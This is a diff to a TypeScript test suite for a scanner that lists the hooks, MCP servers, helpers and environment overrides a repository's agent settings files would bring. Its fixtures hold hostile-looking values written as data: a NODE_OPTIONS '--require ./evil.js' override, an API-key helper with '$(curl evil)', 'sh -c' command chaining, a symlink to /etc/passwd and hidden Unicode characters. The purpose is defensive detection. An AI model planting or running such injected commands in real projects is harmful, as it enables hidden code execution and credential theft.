@@ -13,11 +13,12 @@ async function repository(files: Record<string, unknown>): Promise<string> {
   return root
 }
 
-const read = async (files: Record<string, unknown>) => readRepository(await repository(files))
+const broughtBy = async (root: string) => (await readRepository(root)).flatMap(({ brings }) => brings)
+const read = async (files: Record<string, unknown>) => broughtBy(await repository(files))
 
 test('a repository without files of the agent brings nothing', async () => {
   expect(await read({})).toEqual([])
-  expect(await readRepository('/nowhere')).toEqual([])
+  expect(await broughtBy('/nowhere')).toEqual([])
 })
 
 test('every hook, command, server, permission and unknown key is shown, in the order of their names', async () => {
@@ -65,6 +66,7 @@ test.each([
   ['CLAUDE_CODE_USE_BEDROCK', '1', '1'],
   ['DISABLE_TELEMETRY', true, 'true'],
   ['ANTHROPIC_MODEL', 'claude-opus', 'claude-opus'],
+  ['NODE_OPTIONS', '--require ./evil.js', '--require ./evil.js'],
   ['ANTHROPIC_API_KEY', '12345', 'hidden'],
   ['ANTHROPIC_CUSTOM_HEADERS', 'X-Pass: hunter2', 'hidden'],
 ])('of the environment override %s=%j it shows %j', async (name, value, detail) => {
@@ -82,7 +84,7 @@ test('MCP servers are shown by what they run or ask, and the names of what they 
     odd: 7,
   }
   expect(await read({ [file]: { mcpServers } })).toEqual([
-    { kind: 'mcp_server', name: 'db', detail: 'npx -y db-mcp with DB_PASSWORD', file },
+    { kind: 'mcp_server', name: 'db', detail: 'npx -y db-mcp 3 with DB_PASSWORD', file },
     { kind: 'mcp_server', name: 'odd', detail: 'It is no description of a server.', file },
     { kind: 'mcp_server', name: 'web', detail: 'https://mcp.example/x with Authorization', file },
   ])
@@ -91,7 +93,7 @@ test('MCP servers are shown by what they run or ask, and the names of what they 
 test('what cannot be read is shown as that: the agent may read it all the same', async () => {
   const root = await repository({ '.claude/settings.json': '{"hooks": ', '.mcp.json': [] })
   await symlink('/etc/passwd', join(root, '.claude/settings.local.json'))
-  expect((await readRepository(root)).map(({ kind, name, detail }) => [kind, name, detail])).toEqual([
+  expect((await broughtBy(root)).map(({ kind, name, detail }) => [kind, name, detail])).toEqual([
     ['unreadable', '.claude/settings.json', 'It is no JSON that can be read.'],
     ['unreadable', '.claude/settings.local.json', 'It is a symbolic link and was not followed.'],
     ['unreadable', 'mcpServers', 'It is no map of servers.'],
@@ -100,4 +102,66 @@ test('what cannot be read is shown as that: the agent may read it all the same',
   expect(large?.detail).toContain('larger than 256 KB')
   const [list] = await read({ '.claude/settings.json': [1] })
   expect(list).toMatchObject({ kind: 'unreadable', detail: 'It holds no JSON object.' })
+})
+
+const settings = '.claude/settings.json'
+const hook = (given: unknown) => ({ [settings]: { hooks: { Stop: [given] } } })
+
+test.each([
+  [
+    'a hook that does more than its command',
+    hook({ hooks: [{ type: 'http', url: 'https://evil', command: 'ok' }] }),
+    'evil',
+  ],
+  ['a group with a condition', hook({ if: 'evil', hooks: [{ command: 'ok' }] }), 'evil'],
+  ['a matcher that is no text', hook({ matcher: { evil: 1 }, hooks: [{ command: 'ok' }] }), 'evil'],
+  [
+    'a helper with a second command',
+    { [settings]: { statusLine: { command: 'ok', refresh: 'evil' } } },
+    'evil',
+  ],
+  [
+    'what a shell runs in place of a secret',
+    { [settings]: { apiKeyHelper: './key --token $(curl evil)' } },
+    'curl evil',
+  ],
+  [
+    'a server with a command beside its address',
+    { '.mcp.json': { mcpServers: { a: { url: 'https://ok', command: 'evil' } } } },
+    'evil',
+  ],
+  [
+    'a key of a server that is not known',
+    { '.mcp.json': { mcpServers: { a: { url: 'https://ok', headersHelper: 'evil' } } } },
+    'evil',
+  ],
+  ['an address that is none', { '.mcp.json': { mcpServers: { a: { url: 'https://${evil}/' } } } }, 'evil'],
+  [
+    'an environment that is no map',
+    { '.mcp.json': { mcpServers: { a: { command: 'ok', env: 'evil' } } } },
+    'evil',
+  ],
+  [
+    'where an argument ends',
+    { '.mcp.json': { mcpServers: { a: { command: 'sh', args: ['-c', 'ok && evil'] } } } },
+    'sh -c "ok && evil"',
+  ],
+  ['another key of the servers file', { '.mcp.json': { mcpServers: {}, inputs: ['evil'] } }, 'evil'],
+])('%s is shown', async (_what, files, shown) => {
+  const brings = await read(files)
+  expect(brings.map(({ detail }) => detail).join()).toContain(shown)
+})
+
+test('what a reader would not see is written out', async () => {
+  const brings = await read(
+    hook({ matcher: 'A\u200bB', hooks: [{ command: 'echo \u202eok\u00a0\u3164\u0007\ttab' }] }),
+  )
+  expect(brings).toMatchObject([
+    { name: 'Stop (A\\u{200b}B)', detail: 'echo \\u{202e}ok\\u{a0}\\u{3164}\\u{7}\ttab' },
+  ])
+})
+
+test('a file that is nested without end is one that cannot be read', async () => {
+  const brings = await read({ [settings]: `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}` })
+  expect(brings).toMatchObject([{ kind: 'unreadable', detail: 'It is nested too deeply to be read.' }])
 })
